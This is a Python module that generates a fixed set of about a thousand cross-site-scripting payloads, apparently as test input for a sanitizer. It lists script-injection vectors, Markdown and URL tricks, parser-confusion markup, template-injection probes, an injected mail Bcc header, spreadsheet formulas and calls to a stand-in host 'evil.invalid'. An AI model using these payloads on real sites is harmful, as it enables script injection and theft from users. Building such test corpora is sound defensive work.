"""A thousand ways to smuggle a script into a page, the same ones in every run.

Each is a vector, what would run if it got through, inside of something that makes a careless
page take it for something else.
"""

import random
from itertools import product

# What runs, or what is fetched from a place nobody may fetch from.
SCRIPTS = (
    "alert(1)", "window.ran=1", "fetch('//evil.invalid/')", "new Image().src='//evil.invalid/'",
    "top.ran.push(1)", "prompt`1`", "(()=>{confirm(1)})()", "\\u0061lert(1)", "self['al'+'ert'](1)",
)  # fmt: skip
VECTORS = (
    # Elements that load or fail by themselves.
    "<script>{js}</script>", "<ScRiPt >{js}</sCrIpT >", "<script/x>{js}</script\t>",
    "<script src=//evil.invalid/a.js></script>", "<script src=data:,{js}></script>",
    "<img src=x onerror={js}>", "<img src=x onerror=\"{js}\">", "<img/src=x/onerror={js}>",
    "<IMG SRC=x OnErRoR={js} a=", "<img src=//evil.invalid/i.png>",
    "<img srcset='//evil.invalid/s.png 1x'>", "<image href=x onerror={js}>",
    "<svg onload={js}>", "<svg/onload={js}//", "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js} /><a>x</a></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><a xlink:href=javascript:{js}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x' /></svg>",
    "<body onload={js}>", "<body onpageshow={js}>", "<iframe src=javascript:{js}>",
    "<iframe srcdoc='<img src=x onerror={js}>'>", "<iframe onload={js}>",
    "<object data=javascript:{js}>", "<object data=//evil.invalid/o>",
    "<embed src=javascript:{js}>", "<video src=x onerror={js}>", "<audio src onerror={js}>",
    "<video><source onerror={js}></video>", "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>", "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>", "<marquee onstart={js}>x</marquee>",
    "<x onfocus={js} tabindex=1 autofocus id=x>", "<button popovertarget=p onclick={js}>x",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={js}>",
    # Mathematics, templates and other places where parsers disagree.
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={js}>",
    "<math href=javascript:{js}>x</math>", "<math><a xlink:href=javascript:{js}>x</a></math>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<template><s><template shadowrootmode=open><img src=x onerror={js}></template></s></template>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>", "<xmp><img src=x onerror={js}></xmp>",
    "<!--><img src=x onerror={js}>-->", "<!--<img src='--><img src=x onerror={js}>'>",
    "<![CDATA[><img src=x onerror={js}>]]>", "<?xml ><img src=x onerror={js}>?>",
    "<plaintext><img src=x onerror={js}>", "<title><img src=x onerror={js}></title>",
    # Addresses.
    "<a href=javascript:{js}>x</a>", "<a href='java\tscript:{js}'>x</a>",
    "<a href=' &#1;javascript:{js}'>x</a>", "<a href=&#106;avascript:{js}>x</a>",
    "<a href=data:text/html,<script>{js}</script>>x</a>", "<a href=vbscript:{js}>x</a>",
    "<form action=javascript:{js}><button>x</button></form>",
    "<button formaction=javascript:{js}>x</button>", "<area href=javascript:{js}>",
    "<base href=//evil.invalid/>", "<base href=javascript:/><a href={js}>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/a.css>", "<link rel=prefetch href=//evil.invalid/>",
    # Styles.
    "<style>@import '//evil.invalid/a.css';</style>",
    "<p style=\"background:url('//evil.invalid/b')\">x</p>",
    "<style>*{{background:url(//evil.invalid/c)}}</style>",
    # Markdown.
    "[x](javascript:{js})", "[x](JaVaScRiPt:{js})", "[x](java&#115;cript:{js})",
    "[x](javascript&colon;{js})", "[x](<javascript:{js}>)",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](vbscript:{js})", "[x](//evil.invalid \"' onmouseover={js} '\")",
    "[x](https://example.com\"onmouseover=\"{js})", "![x](//evil.invalid/m.png)",
    "![x\" onerror=\"{js}](x)", "![x](x \"' onerror={js} '\")", "<javascript:{js}>",
    "<https://example.com/\"onmouseover={js}>", "https://example.com/\"onmouseover=\"{js}",
    "[x]\n\n[x]: javascript:{js}", "`<img src=x onerror={js}>`",
    "```\"><img src=x onerror={js}>\nx\n```",
    "x@example.com\"onclick=\"{js}", "| a |\n|---|\n| <img src=x onerror={js}> |",
    "# <img src=x onerror={js}>", "> <img src=x onerror={js}>", "- <script>{js}</script>",
    # Out of an attribute, a script, a template.
    "\" autofocus onfocus={js} x=\"", "' autofocus onfocus={js} x='", "` onmouseover={js} `",
    "\"><img src=x onerror={js}>", "'><img src=x onerror={js}>", "--><img src=x onerror={js}>",
    "]]><img src=x onerror={js}>", "';{js};//", "\";{js};//", "</script><script>{js}</script>",
    "${{{js}}}", "{{{{ {js} }}}}", "{{{{ ''.__class__.__mro__ }}}}", "{{% set x = {js} %}}",
    "{{{{constructor.constructor('{js}')()}}}}", "<%= {js} %>", "#{{{js}}}", "%(name)s %s {{0}}",
    "&lt;img src=x onerror={js}&gt;", "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{js}%3C/script%3E", "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    # Letters that become others, and heads of mails.
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e", "<\u200bscript>{js}</script>",
    "<\x00script>{js}</script>",
    "\u202e<script>{js}</script>", "\u2028<script>{js}</script>", "<img src=x on\u00aderror={js}>",
    "\ufeff<svg/onload={js}>", "\u017fcript <\u017fcript>{js}</\u017fcript>",
    "x\r\nBcc: evil@evil.invalid\r\n\r\n<script>{js}</script>",
    "x\nContent-Type: text/html\n\n<img src=x onerror={js}>",
    "=?utf-8?b?PHNjcmlwdD4=?= <script>{js}</script>",
    # Data for programs.
    "=HYPERLINK(\"javascript:{js}\")", "\u2029</title><script>{js}</script>",
    "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
)  # fmt: skip
# What stands around it.
AROUND = (
    "{}", "x {}", "</p>{}", "</title>{}", "</textarea>{}", "\">{}", "'>{}", "-->{}", "</a>{}",
    "**x** {} *y*", "</style></script>{}", "<b>{}", "{}<!--", "&quot;&gt;{}", "</svg>{}", "\\{}",
)  # fmt: skip


def payloads(count: int = 1000) -> list[str]:
    """Different ones, every vector among them."""
    dice = random.Random(20)
    whole = list(product(VECTORS, AROUND))
    dice.shuffle(whole)
    first = [(vector, "{}") for vector in VECTORS]
    chosen = [*first, *(one for one in whole if one not in first)][:count]
    return [around.format(vector.format(js=dice.choice(SCRIPTS))) for vector, around in chosen]
